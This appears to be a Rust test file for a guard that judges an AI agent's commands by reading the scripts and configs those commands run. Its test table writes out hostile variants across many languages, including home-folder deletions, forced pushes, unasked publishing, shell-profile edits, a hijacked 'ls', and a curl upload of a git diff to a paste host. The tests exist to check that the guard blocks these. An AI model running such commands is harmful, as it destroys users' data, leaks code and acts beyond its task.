//! Files that the agent wrote by one call and runs by the next.

mod databases;
mod found;

use crate::{Context, Decision, Entry, Facts, judge_command};

/// Files in the repository; were they there when the run began?
struct Files {
    files: Vec<(&'static str, String)>,
    before: Option<bool>,
}

impl Files {
    fn one(path: &'static str, text: &str) -> Self {
        let files = vec![(path, text.to_owned())];
        Self {
            files,
            before: None,
        }
    }
}

impl Facts for Files {
    fn entry(&self, path: &str) -> Entry {
        self.text(path).map_or(Entry::Missing, |_| Entry::File)
    }

    fn text(&self, path: &str) -> Option<String> {
        let path = path.strip_prefix("/srv/repo/")?;
        let mut files = self.files.iter();
        files.find_map(|(name, text)| (*name == path).then(|| text.clone()))
    }

    fn fresh(&self, folder: &str) -> Vec<String> {
        let apart = |path: &'static str| path.rsplit_once('/').unwrap_or(("", path));
        let files = self.files.iter().map(|(path, _)| apart(path));
        let here = files.filter(|(of, _)| folder.strip_prefix("/srv/repo/") == Some(of));
        here.map(|(_, name)| name.to_owned()).collect()
    }

    fn fresh_below(&self, folder: &str, wanted: &dyn Fn(&str) -> bool) -> Vec<String> {
        let below = |path: &str| folder == "/srv/repo" && wanted(path);
        let files = self.files.iter().map(|(path, _)| (*path).to_owned());
        files.filter(|path| below(path)).collect()
    }

    fn vouched(&self, _path: &str) -> Option<bool> {
        self.before
    }

    fn own(&self, path: &str) -> bool {
        self.entry(path) == Entry::File
    }

    fn ignored(&self, _path: &str) -> Option<bool> {
        Some(false)
    }

    fn recoverable(&self, _path: &str) -> Option<bool> {
        Some(false)
    }
}

/// Command, file, harmless text, text that acts elsewhere.
const CASES: &[(&str, &str, &str, &str)] = &[
    (
        "vim -es -S a.vim src/a.txt",
        "a.vim",
        "%s/old/new/g\nset rtp+=/usr/share/vim\nwq",
        "call delete('/home/dev/other', 'rf')\nqa!",
    ),
    (
        "nvim --headless -S a.vim",
        "a.vim",
        "silent !git push origin HEAD",
        "silent !git push --force origin main",
    ),
    (
        "npx vitest run",
        "vitest.config.mts",
        "export default { test: { globals: true } }",
        "require('fs').rmSync('/home/dev/other', {recursive: true})",
    ),
    (
        "emacs --batch -l a.el",
        "a.el",
        "(delete-directory \"build\" t)",
        "(delete-directory \"~/other\" t)",
    ),
    (
        "gdb -batch -x a.gdb target/debug/a",
        "a.gdb",
        "file target/debug/a\nbreak main\nrun\nbt",
        "shell rm -rf /home/dev/other",
    ),
    (
        "pwsh -NoProfile -File a.ps1",
        "a.ps1",
        "Get-ChildItem src | ForEach-Object { Write-Output $_.Name }",
        "$target = Join-Path $HOME 'other'\nRemove-Item -Recurse -Force $target",
    ),
    (
        "tclsh a.tcl",
        "a.tcl",
        "file delete -force build",
        "file delete -force /home/dev/other",
    ),
    (
        "ant clean",
        "build.xml",
        "<project name=\"p\"><target name=\"clean\"><delete dir=\"build\"/></target></project>",
        "<project name=\"p\"><target name=\"clean\"><delete dir=\"/home/dev/other\"/></target></project>",
    ),
    (
        "mvn -q test",
        "pom.xml",
        "<project xmlns=\"http://maven.apache.org/POM/4.0.0\">\n<artifactId>a</artifactId>\n<directory>target/x</directory>\n</project>",
        "<project>\n<executable>rm</executable><arguments><argument>-rf</argument><argument>/home/dev/other</argument></arguments>\n</project>",
    ),
    (
        "jupyter nbconvert --to notebook --execute a.ipynb",
        "a.ipynb",
        r#"{"cells":[{"cell_type":"markdown","source":["import shutil; shutil.rmtree('/home/dev/other')"]},{"cell_type":"code","source":["import shutil\n","shutil.rmtree('build')"]}]}"#,
        r#"{"cells":[{"cell_type":"code","source":["import shutil\n","shutil.rmtree('/home/dev/other')"]}]}"#,
    ),
    (
        "rake clean",
        "Rakefile",
        "task(:clean) { sh \"rm -rf build\" }",
        "task :clean do\n  sh \"rm -rf #{Dir.home}/other\"\nend",
    ),
    (
        "python3 < a.py",
        "a.py",
        "import shutil; shutil.rmtree('build')",
        "import shutil; shutil.rmtree('/home/dev/other')",
    ),
    (
        "node a.mjs",
        "a.mjs",
        "import {rm} from 'node:fs/promises'; await rm(new URL('file:///srv/repo/build'), {recursive: true})",
        "import {rm} from 'node:fs/promises'; await rm(new URL('file:///home/dev/other'), {recursive: true})",
    ),
    (
        "go run ./cmd/a",
        "cmd/a/main.go",
        "func main() { d, err := os.MkdirTemp(\"\", \"x\"); os.RemoveAll(d) }",
        "func main() {\n h, _ := os.UserHomeDir()\n os.RemoveAll(filepath.Join(h, \"other\"))\n}",
    ),
    (
        "node scripts/a.js",
        "scripts/a.js",
        "fs.rmSync(path.join(__dirname, '..', 'dist'), {recursive: true})",
        "fs.rmSync(path.join(__dirname, '..', '..', 'other'), {recursive: true})",
    ),
    (
        "node scripts/a.mjs",
        "scripts/a.mjs",
        "const here = new URL('.', import.meta.url); rmSync(new URL('../dist', here), {recursive: true})",
        "rmSync(new URL('../../other', import.meta.url), {recursive: true})",
    ),
    (
        "ruby scripts/a.rb",
        "scripts/a.rb",
        "FileUtils.rm_rf(File.expand_path('../dist', __dir__))",
        "FileUtils.rm_rf(File.expand_path('../../other', __dir__))",
    ),
    (
        "bash scripts/a.sh",
        "scripts/a.sh",
        "cd \"$(dirname \"${BASH_SOURCE[0]}\")/..\" || exit 1; rm -rf dist",
        "cd \"$(dirname \"${BASH_SOURCE[0]}\")/../..\" || exit 1; rm -rf other",
    ),
    (
        "./scripts/a.sh",
        "scripts/a.sh",
        "D=\"$(cd \"$(dirname \"$0\")\" > /dev/null && pwd)\"; cd \"$D/..\"; rm -rf dist",
        "D=\"$(cd \"$(dirname \"$0\")\" > /dev/null && pwd)\"; rm -rf \"$D/../../other\"",
    ),
    (
        "PATH=$PWD/bin:$PATH ls src",
        "bin/ls",
        "#!/bin/sh\nexec /bin/ls -l",
        "#!/bin/sh\nrm -rf ~/other",
    ),
    (
        "export PATH=bin:$PATH; tool now",
        "bin/tool",
        "#!/bin/sh\nmake",
        "#!/usr/bin/env python3\nimport shutil; shutil.rmtree('/home/dev/other')",
    ),
    // Its way is not followed to the end, and it begins in the home folder.
    (
        "node tools/a.js",
        "tools/a.js",
        "const all = [path.join(__dirname, '..', 'build')];\nif (a) { all.push(path.join(__dirname, '..', 'dist')); }\nfor (const t of all) { fs.rmSync(t); }",
        "const all = [path.join(__dirname, '..', 'build')];\nif (a) { all.push(path.join(os.homedir(), pick(), 'y')); }\nfor (const t of all) { fs.rmSync(t); }",
    ),
    (
        "python3 a.py",
        "a.py",
        "folder = Path(os.environ.get('A', Path('out') / 'b')) / 'c'\n(folder / 'd').write_text('x')",
        "folder = Path(os.environ.get('A', Path.home() / '.config')) / 'c'\n(folder / 'd').write_text('x')",
    ),
    (
        "cargo build",
        "build.rs",
        "fn main() { let out = PathBuf::from(env::var(\"OUT_DIR\").unwrap()); fs::write(out.join(\"a\").join(\"b\"), \"x\").unwrap(); }",
        "fn main() { let home = env::var(\"HOME\").unwrap(); fs::write(PathBuf::from(home).join(\".a\").join(\"b\"), \"x\").unwrap(); }",
    ),
    (
        "Rscript a.R",
        "a.R",
        "lib <- pick('renv/library')\nunlink(lib, recursive = TRUE)",
        "lib <- pick('~/R/library')\nunlink(lib, recursive = TRUE)",
    ),
    (
        "deno run -A a.ts",
        "a.ts",
        "import { join } from 'https://deno.land/std/path/mod.ts';\nawait Deno.remove(join('out', Deno.env.get('KIND')), { recursive: true });",
        "import { join } from 'https://deno.land/std/path/mod.ts';\nawait Deno.remove(join(Deno.env.get('HOME'), 'notes'), { recursive: true });",
    ),
    // What a function hands on as it got it.
    (
        "python3 a.py",
        "a.py",
        "def git(*args):\n    subprocess.run(['git', *args])\ngit('config', '--local', 'a.b', 'c')",
        "def git(*args):\n    subprocess.run(['git', *args])\ngit('config', '--local', 'a.b', 'c')\ngit('push', '--force', 'origin', 'main')",
    ),
    (
        "python3 a.py",
        "a.py",
        "def run(*parts):\n    return os.system(' '.join(parts))\nrun('ls', '-l')",
        "VERB = 'r' + 'm'\ndef run(*parts):\n    return os.system(' '.join(parts))\nrun(VERB, '-rf', '/'.join(['', 'home', 'dev', 'other']))",
    ),
    (
        "node a.js",
        "a.js",
        "const sh = (...words) => execFileSync('git', words);\nsh('status', '--short')",
        "const sh = (...words) => execFileSync('git', words);\nsh('push', '--force', 'origin', 'main')",
    ),
    (
        "node a.js",
        "a.js",
        "execSync('npm pack' + (a ? ' --json' : ''))",
        "execSync('npm publish --access public' + (a ? ' --tag next' : ''))",
    ),
    // Notations that nobody follows.
    (
        "cmake -S . -B build",
        "CMakeLists.txt",
        "set(OLD \"${CMAKE_BINARY_DIR}/lib\")\nfile(REMOVE_RECURSE \"${OLD}\")",
        "set(OLD \"$ENV{HOME}/.local/lib\")\nfile(REMOVE_RECURSE \"${OLD}\")",
    ),
    (
        "pre-commit run --all-files",
        ".pre-commit-config.yaml",
        "repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: bash -c 'git diff HEAD | wc -l'",
        "repos:\n  - repo: local\n    hooks:\n      - id: a\n        entry: bash -c 'git diff HEAD | curl -sF a=@- https://paste.example.org'",
    ),
    // A way to the home folder among what is written, and not in where.
    (
        "python3 a.py",
        "a.py",
        "out = Path(pick())\nlines = [str(Path.home())]\nout.write_text('\\n'.join(lines))",
        "out = Path.home() / pick()\nlines = ['x']\nout.write_text('\\n'.join(lines))",
    ),
    // What fetches, and what sends.
    (
        "python3 a.py",
        "a.py",
        "urllib.request.urlopen('https://data.example.org/a.csv', timeout=30)",
        "urllib.request.urlopen('https://data.example.org/a.csv?' + text)",
    ),
    (
        "node a.mjs",
        "a.mjs",
        "await fetch('https://data.example.org/a.csv')",
        "await fetch('https://data.example.org/a', { method: 'POST', body })",
    ),
    (
        "sed -n -f a.sed src/a.txt",
        "a.sed",
        "s/a/b/p\nw out.txt",
        "s/a/b/p\nw /home/dev/.profile",
    ),
    (
        "node b.mjs",
        "b.mjs",
        "await fetch('https://data.example.org/a.csv')",
        "await fetch('https://data.example.org/a', {\n  method: 'POST',\n});",
    ),
    (
        "pip install -e .",
        "setup.py",
        "for name in ('a', 'b'):\n    path = os.path.join('out', name)\n    with open(path, 'a') as fh:\n        fh.write(line)",
        "for name in ('.bashrc', '.zshrc'):\n    path = os.path.join(os.path.expanduser('~'), name)\n    with open(path, 'a') as fh:\n        fh.write(line)",
    ),
    (
        "python3 -m unittest tests.test_a",
        "tests/test_a.py",
        "class A(TestCase):\n    def setUp(self):\n        self.out = tempfile.mkdtemp()\n    def tearDown(self):\n        shutil.rmtree(self.out)",
        "class A(TestCase):\n    def setUp(self):\n        self.out = os.path.join(os.path.expanduser('~'), 'other')\n    def tearDown(self):\n        shutil.rmtree(self.out)",
    ),
    (
        "cargo test --test a",
        "tests/a.rs",
        "fn ours() -> PathBuf { std::env::temp_dir().join(\"x\") }\n#[test]\nfn a() { fs::write(ours().join(\"b\"), \"x\").unwrap(); }",
        "fn ours() -> PathBuf { PathBuf::from(std::env::var_os(\"HOME\").unwrap()) }\n#[test]\nfn a() { fs::write(ours().join(\"b\"), \"x\").unwrap(); }",
    ),
    (
        "just reset",
        "justfile",
        "out := 'build'\nreset:\n    rm -rf {{out}}/data",
        "home := env_var(\"HOME\")\nreset:\n    rm -rf {{home}}/other",
    ),
    (
        "composer install",
        "composer.json",
        r#"{"scripts": {"test": "rm -rf ~/other", "post-install-cmd": ["@php a.php"]}}"#,
        r#"{"scripts": {"test": "phpunit", "post-install-cmd": ["@php a.php", "rm -rf ~/other"]}}"#,
    ),
    (
        "go test ./pkg/...",
        "pkg/a_test.go",
        "func setup() { dir := filepath.Join(os.TempDir(), \"x\"); if err := os.RemoveAll(dir); err != nil { } }",
        "func setup() { home, err := os.UserHomeDir(); dir := filepath.Join(home, \"other\"); if err := os.RemoveAll(dir); err != nil { } }",
    ),
    (
        "cargo test --test a",
        "tests/a.rs",
        "fn ours() -> PathBuf { dirs::cache().unwrap().join(\"x\") }\nfn fresh() -> S { let dir = ours(); let _ = fs::remove_dir_all(&dir); S::open(&dir) }",
        "fn ours() -> PathBuf { dirs::home_dir().unwrap().join(\"x\") }\nfn fresh() -> S { let dir = ours(); let _ = fs::remove_dir_all(&dir); S::open(&dir) }",
    ),
    (
        "python3 a.py",
        "a.py",
        "urllib.request.urlretrieve('https://data.example.org/a.csv', Path('a.csv'))",
        "urllib.request.urlretrieve('https://data.example.org/?' + text, Path('a.csv'))",
    ),
    // Of recipes only those that run.
    (
        "make test",
        "Makefile",
        "A := b:c\n.PHONY: test deploy\ntest: lint\n\tpytest\nlint:\n\truff check\ndeploy:\n\trsync -a dist/ deploy@a.example.org:/var",
        "test: lint\n\tpytest\nlint: ship\n\truff check\nship: A=1\n\trsync -a dist/ deploy@a.example.org:/var",
    ),
    (
        "make all",
        "Makefile",
        "NAMES = a b\nall: $(NAMES)\na b:\n\tmake -C $@\nship:\n\trsync -a dist/ deploy@a.example.org:/var",
        "all: $(addprefix sh,ip)\nship:\n\trsync -a dist/ deploy@a.example.org:/var",
    ),
    (
        "make -f a.mk test",
        "a.mk",
        "test:\n\tpytest\nship:\n\trsync -a dist/ deploy@a.example.org:/var",
        "test: ship\n\tpytest\nship:\n\trsync -a dist/ deploy@a.example.org:/var",
    ),
    (
        "python3 -c 'from lib import (util, more)'",
        "lib/util.py",
        "import os",
        "import os, shutil\nshutil.rmtree(os.path.expanduser('~/other'))",
    ),
    (
        "just check",
        "justfile",
        "check:\n    cargo test\nship target='prod':\n    kubectl apply -f k8s/",
        "check:\n    just ship\nship target='prod':\n    kubectl apply -f k8s/",
    ),
    (
        "npm run build",
        "package.json",
        r#"{"scripts": {"build": "tsc", "postbuild": "node a.js", "release": "npm publish"}}"#,
        r#"{"scripts": {"build": "run-p build:*", "build:js": "tsc && npm run release", "release": "npm publish"}}"#,
    ),
    (
        "npm ci",
        "package.json",
        r#"{"scripts": {"release": "npm publish"}}"#,
        r#"{"scripts": {"postinstall": "npm publish"}}"#,
    ),
    // Services answer without an address.
    (
        "python3 a.py",
        "a.py",
        "bucket = boto3.resource('s3').Bucket('media')\nfor key in bucket.objects.all():\n    print(key)",
        "bucket = boto3.resource('s3').Bucket('media')\nbucket.delete_objects(Delete=keys)",
    ),
    (
        "pytest tests/test_a.py",
        "tests/test_a.py",
        "@mock_aws\ndef test_a():\n    boto3.client('s3').delete_object(Bucket='a', Key='b')",
        "def test_a():\n    boto3.client('s3').delete_object(Bucket='a', Key='b')",
    ),
    (
        "python3 a.py",
        "a.py",
        "with smtplib.SMTP('localhost', 1025) as s:\n    s.send_message(message)",
        "with smtplib.SMTP('smtp.example.org', 587) as s:\n    s.send_message(message)",
    ),
];

#[test]
fn what_a_configuration_names_and_what_a_runner_finds_is_read_as_well() {
    for command in [
        "npx jest --ci",
        "cargo run --target x",
        "cargo test",
        "go test ./pkg/...",
    ] {
        for (text, stopped) in [("git status", false), ("rm -rf ~/other", true)] {
            let test = format!("fn a() {{ Command::new(\"sh\").arg(\"-c\").arg(\"{text}\"); }}");
            let config = "module.exports = { globalSetup: './test/setup.js' };";
            let facts = Files {
                files: vec![
                    ("tests/a.rs", test.clone()),
                    ("pkg/a_test.go", test),
                    ("jest.config.js", config.into()),
                    (
                        ".cargo/config.toml",
                        "[target.x]\nrunner = \"scripts/run.sh\"".into(),
                    ),
                    ("test/setup.js", format!("execSync('{text}')")),
                    ("scripts/run.sh", text.into()),
                ],
                before: None,
            };
            let context = Context {
                facts: &facts,
                ..Context::repository("/srv/repo", "/home/dev")
            };
            let decision = judge_command(command, &context).decision;
            assert_eq!(decision != Decision::Allow, stopped, "{command}: {text}");
        }
    }
}

#[test]
fn what_a_file_does_elsewhere_is_asked_about_in_whatever_language_it_is() {
    for (command, file, harmless, elsewhere) in CASES {
        for (text, stopped) in [(harmless, false), (elsewhere, true)] {
            let facts = Files::one(file, text);
            let context = Context {
                facts: &facts,
                ..Context::repository("/srv/repo", "/home/dev")
            };
            let verdict = judge_command(command, &context);
            assert_eq!(
                verdict.decision != Decision::Allow,
                stopped,
                "{command}: {text}: {verdict:?}"
            );
        }
    }
}

#[test]
fn a_program_that_the_command_itself_writes_is_found_along_its_path() {
    let facts = Files::one("", "");
    let context = Context {
        facts: &facts,
        ..Context::repository("/srv/repo", "/home/dev")
    };
    for (text, stopped) in [("make", false), ("rm -rf ~/other", true)] {
        for run in ["PATH=$PWD/bin:$PATH ls", "export PATH=bin:$PATH; ls"] {
            let command = format!("mkdir -p bin; echo '{text}' > bin/ls; chmod +x bin/ls; {run}");
            let decision = judge_command(&command, &context).decision;
            assert_eq!(decision != Decision::Allow, stopped, "{command}");
        }
    }
}
